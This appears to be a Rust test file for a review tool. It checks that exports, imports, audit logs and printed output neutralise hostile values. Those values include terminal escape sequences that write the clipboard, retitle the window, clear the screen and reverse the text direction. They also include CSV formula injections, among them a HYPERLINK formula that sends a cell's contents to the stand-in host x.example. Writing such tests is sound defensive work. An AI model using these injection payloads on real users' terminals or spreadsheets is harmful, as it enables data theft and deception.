//! Every output that can carry imported, stored or server text, fed the same hostile values: a
//! process id, reviewers, a status and a note carrying OSC 52 (clipboard), OSC 0 (window title),
//! CSI 2J (clear screen), the 8-bit CSI U+009B and RLO U+202E, each starting like a formula. No
//! raw terminal control may reach any output, and no CSV cell may start a formula; the JSONL
//! still carries every value unchanged (the CSV shows controls as `\u{1b}`).
//!
//! The review commands, `audit` and `show` run as the real binary (stdout, `--out` files and
//! stderr); `show --json` to a terminal and the export's closing report run in process.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::json;
use truora_tui::api::model::Status;
use truora_tui::audit::record::{GENESIS, encode};
use truora_tui::audit::{AuditEvent, ImageTag, ProcessRef};
use truora_tui::export::ExportSummary;
use truora_tui::review::{Event, EventKind, Store, Verdict};
use truora_tui::show::ShowOptions;
use truora_tui::source::Source;

/// What each hostile value carries after its own text.
const ATTACK: &str = "\u{1b}]52;c;aGk=\u{7}\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}31m\u{202e}fdp.exe";

fn hostile(start: &str, text: &str) -> String {
    format!("{start}{text}{ATTACK}")
}

/// The values every path is fed.
struct Values {
    process: String,
    ana: String,
    ben: String,
    status: String,
    note: String,
}

fn values() -> Values {
    Values {
        process: hostile("=", "IDP1"),
        ana: hostile("@", "ana"),
        ben: hostile("+", "ben"),
        status: hostile("-", "failure"),
        note: hostile(" =", "HYPERLINK(\"http://x.example/?\"&A1,\"ok\")"),
    }
}

/// A control a terminal would act on, by an independent list (not the library's rule): C0 but
/// tab and line feed, DEL, C1, bidirectional controls, invisible characters, separators. A CR is
/// allowed only as the start of a CRLF (the CSV's line ends), where it hides nothing.
fn raw_controls(text: &str) -> Vec<char> {
    let chars: Vec<char> = text.chars().collect();
    chars
        .iter()
        .enumerate()
        .filter(|&(i, &c)| match c {
            '\t' | '\n' => false,
            '\r' => chars.get(i + 1) != Some(&'\n'),
            '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}' => true,
            '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}' => true,
            '\u{2028}' | '\u{2029}' | '\u{061c}' | '\u{2060}' | '\u{feff}' => true,
            _ => false,
        })
        .map(|(_, &c)| c)
        .collect()
}

#[track_caller]
fn assert_clean(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    let found = raw_controls(&text);
    assert!(
        found.is_empty(),
        "{what}: raw controls {found:?} in {text:?}"
    );
}

/// The cells of an RFC 4180 CSV (quoted cells may hold commas, quotes and line breaks).
fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    assert!(
        cell.is_empty() && row.is_empty(),
        "the CSV ends with a line end"
    );
    rows
}

#[track_caller]
fn assert_no_formula(what: &str, csv: &str) {
    let rows = csv_cells(csv);
    assert!(rows.len() > 1, "{what}: a header and rows: {csv:?}");
    for cell in rows.iter().flatten() {
        let first = cell.chars().find(|c| !c.is_whitespace());
        assert!(
            !cell.starts_with(['\t', '\r', '\0']) && !first.is_some_and(|c| "=+-@".contains(c)),
            "{what}: the cell {cell:?} starts a formula"
        );
    }
}

/// A store with the values: two reviewers deciding at once (a conflict) and a note.
fn hostile_store(dir: &Path, v: &Values) -> PathBuf {
    let db = dir.join("reviews.sqlite3");
    let mut store = Store::open(&db).unwrap();
    let status = Some(Status::parse(&v.status));
    let decide = |verdict, who: &str| {
        Event::new(
            &v.process,
            EventKind::Verdict {
                verdict,
                reason: None,
            },
            who,
            status.clone(),
        )
    };
    store.record(&decide(Verdict::Pass, &v.ana)).unwrap();
    store.record(&decide(Verdict::Fail, &v.ben)).unwrap();
    let note = Event::new(
        &v.process,
        EventKind::Note {
            text: v.note.clone(),
        },
        &v.ana,
        status.clone(),
    );
    store.record(&note).unwrap();
    db
}

/// The binary with no config, key or data folder of the machine running the tests.
fn truora_tui(home: &Path) -> Command {
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_truora-tui"));
    cmd.env_remove("TRUORA_API_KEY")
        .env_remove("TRUORA_TUI_CONFIG")
        .env_remove("TRUORA_TUI_REVIEW_DB")
        .env_remove("TRUORA_TUI_AUDIT_LOG")
        .env("HOME", home)
        .env("XDG_CONFIG_HOME", home.join("config"))
        .env("XDG_DATA_HOME", home.join("data"))
        .env("XDG_STATE_HOME", home.join("state"))
        .env("TZ", "UTC");
    cmd
}

/// Runs the binary; both streams must be clean whatever it exits with.
fn run(home: &Path, what: &str, args: &[&std::ffi::OsStr]) -> Output {
    let output = truora_tui(home).args(args).output().unwrap();
    assert_clean(&format!("{what}: stdout"), &output.stdout);
    assert_clean(&format!("{what}: stderr"), &output.stderr);
    output
}

fn os(s: &str) -> &std::ffi::OsStr {
    s.as_ref()
}

#[track_caller]
fn assert_ok(what: &str, output: &Output) -> String {
    assert_eq!(
        output.status.code(),
        Some(0),
        "{what}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout.clone()).unwrap()
}

#[test]
fn every_review_output_is_neutralised_for_terminals_and_spreadsheets() {
    let tmp = tempfile::tempdir().unwrap();
    let home = tmp.path();
    let v = values();
    let db = hostile_store(home, &v);
    let db = db.as_os_str();
    let review = |what: &str, args: &[&str]| {
        let mut all: Vec<&std::ffi::OsStr> = args.iter().map(|a| os(a)).collect();
        all.extend([os("--review-db"), db]);
        run(home, what, &all)
    };

    // The CSV, to standard output and to a file: both opened in spreadsheets and printed.
    let csv = assert_ok("export csv", &review("export csv", &["reviews", "export"]));
    assert_no_formula("export csv", &csv);
    assert!(
        csv.contains("\\u{1b}]52;c;aGk=\\u{7}") && csv.contains("\\u{202e}fdp.exe"),
        "the CSV shows what was there: {csv:?}"
    );
    let file = home.join("overrides.csv");
    let file_arg = file.to_str().unwrap();
    assert_ok(
        "export --out",
        &review("export --out", &["reviews", "export", "--out", file_arg]),
    );
    let written = std::fs::read(&file).unwrap();
    assert_clean("export --out", &written);
    assert_eq!(String::from_utf8(written).unwrap(), csv);

    // The JSONL: escaped, and still every value byte for byte.
    let jsonl = assert_ok(
        "export jsonl",
        &review("export jsonl", &["reviews", "export", "--format", "jsonl"]),
    );
    let events: Vec<serde_json::Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(events.len(), 3, "{jsonl}");
    for e in &events {
        assert_eq!(e["process_id"], json!(v.process));
        assert_eq!(e["truora_status"], json!(v.status));
        assert!(e["reviewer"] == json!(v.ana) || e["reviewer"] == json!(v.ben));
    }
    assert!(events.iter().any(|e| e["text"] == json!(v.note)), "{jsonl}");
    let jsonl_file = home.join("events.jsonl");
    let jsonl_arg = jsonl_file.to_str().unwrap();
    assert_ok(
        "export jsonl --out",
        &review(
            "export jsonl --out",
            &["reviews", "export", "--format", "jsonl", "--out", jsonl_arg],
        ),
    );
    assert_clean("export jsonl --out", &std::fs::read(&jsonl_file).unwrap());

    let list = assert_ok("list", &review("list", &["reviews", "list"]));
    assert!(list.contains("CONFLICT"), "{list}");
    assert_ok(
        "list --conflicts",
        &review("list", &["reviews", "list", "--conflicts"]),
    );
    let stats = assert_ok("stats", &review("stats", &["reviews", "stats"]));
    assert!(stats.contains("2 reviewer(s)"), "{stats}");

    // Import into a fresh store: ids and names carrying controls are refused, every line named,
    // in a clean report (nothing imported); and a file whose bad line carries the attack is
    // refused with a clean message.
    let fresh = home.join("fresh.sqlite3");
    let fresh = fresh.as_os_str();
    let imported = run(
        home,
        "import",
        &[
            os("reviews"),
            os("import"),
            jsonl_file.as_os_str(),
            os("--review-db"),
            fresh,
        ],
    );
    let report = String::from_utf8_lossy(&imported.stderr);
    assert_eq!(imported.status.code(), Some(1), "{imported:?}");
    assert!(
        report.contains("line 1:") && report.contains("nothing was imported"),
        "{report}"
    );
    let bad = home.join("bad.jsonl");
    let mut line = events[0].clone();
    line["verdict"] = json!(hostile("=", "maybe"));
    line["at"] = json!(ATTACK);
    std::fs::write(&bad, format!("{line}\n{ATTACK}\n")).unwrap();
    let refused = run(
        home,
        "import a bad file",
        &[
            os("reviews"),
            os("import"),
            bad.as_os_str(),
            os("--review-db"),
            fresh,
        ],
    );
    assert_ne!(refused.status.code(), Some(0), "{refused:?}");
}

#[test]
fn the_access_log_is_printed_clean() {
    let tmp = tempfile::tempdir().unwrap();
    let home = tmp.path();
    let v = values();
    let log = home.join("audit");
    std::fs::create_dir(&log).unwrap();
    // A saved image's path is what the user chose; a session's reviewer and host are read back
    // from a file anyone with the account can edit.
    let saved = AuditEvent::ImageSaved {
        process: ProcessRef::new(&v.process),
        image: ImageTag::DocumentFront,
        path: format!("/home/r/{}/x.jpg", v.note),
    };
    let start: AuditEvent = serde_json::from_value(json!({
        "kind": "session_start", "reviewer": v.ana, "host": v.ben, "os_user": v.status,
        "source": "live", "pid": 1
    }))
    .unwrap();
    let now = std::time::SystemTime::now();
    let (first, hash) = encode(0, now, "abcd1234", &start, &GENESIS);
    let (second, _) = encode(1, now, "abcd1234", &saved, &hash);
    let month = truora_tui::audit::files::month_file_name((2026, 11));
    let mut file = std::fs::File::create(log.join(month)).unwrap();
    file.write_all(format!("{first}{second}").as_bytes())
        .unwrap();
    let args = [os("audit"), os("--audit-log"), log.as_os_str()];
    let printed = assert_ok("audit", &run(home, "audit", &args));
    assert!(
        printed.contains("image_saved") && printed.contains("session_start"),
        "{printed}"
    );
    let mut verify = args.to_vec();
    verify.extend([os("--verify"), os("--process"), os(&v.process)]);
    run(home, "audit --verify", &verify);
}

/// An archive holding one process whose result carries the values.
fn hostile_archive(dir: &Path, v: &Values) -> PathBuf {
    let archive = dir.join("archive");
    std::fs::create_dir_all(archive.join("p1")).unwrap();
    let result = json!({
        "process_id": v.process,
        "status": v.status,
        "declined_reason": v.note,
        "first_name": v.ana,
        "last_name": v.ben,
        "validations": [{
            "validation_id": hostile("@", "VLD"),
            "type": hostile("-", "document-validation"),
            "validation_status": "failure",
            "declined_reason": v.note,
        }],
    });
    std::fs::write(archive.join("p1/result.json"), result.to_string()).unwrap();
    archive
}

#[test]
fn show_prints_an_archived_process_clean() {
    let tmp = tempfile::tempdir().unwrap();
    let home = tmp.path();
    let v = values();
    let archive = hostile_archive(home, &v);
    let shown = run(
        home,
        "show --archive",
        &[
            os("show"),
            os("--archive"),
            archive.as_os_str(),
            os(&v.process),
            os("--no-images"),
        ],
    );
    let text = assert_ok("show --archive", &shown);
    assert!(text.contains("fdp.exe"), "{text}");
    // A process the archive lacks: the error quotes the id.
    run(
        home,
        "show --archive, unknown id",
        &[os("show"), os("--archive"), archive.as_os_str(), os(&v.ben)],
    );
}

#[tokio::test]
async fn show_json_to_a_terminal_is_escaped_and_means_the_same() {
    let tmp = tempfile::tempdir().unwrap();
    let v = values();
    let archive = hostile_archive(tmp.path(), &v);
    let source = Source::archive(&archive).unwrap();
    let opts = ShowOptions {
        json: true,
        images: false,
        ..ShowOptions::default()
    };
    let mut out = Vec::new();
    truora_tui::show::print_to(&source, &v.process, &opts, &mut out, true)
        .await
        .unwrap();
    assert_clean("show --json", &out);
    let shown: serde_json::Value = serde_json::from_slice(&out).unwrap();
    assert_eq!(shown["process_id"], json!(v.process));
    assert_eq!(shown["declined_reason"], json!(v.note));
}

#[test]
fn the_exports_report_is_clean() {
    let v = values();
    let summary = ExportSummary {
        out: PathBuf::from(format!("/tmp/{}", v.note)),
        failed: vec![(v.process.clone(), v.note.clone())],
        missing: vec![(v.process.clone(), v.status.clone())],
        list_error: Some(v.ben.clone()),
        ..ExportSummary::default()
    };
    let (mut out, mut err) = (Vec::new(), Vec::new());
    truora_tui::export::report(&Ok(summary), &mut out, &mut err);
    assert_clean("export report: stdout", &out);
    assert_clean("export report: stderr", &err);
    assert!(String::from_utf8_lossy(&err).contains("failed: =IDP1"));
}
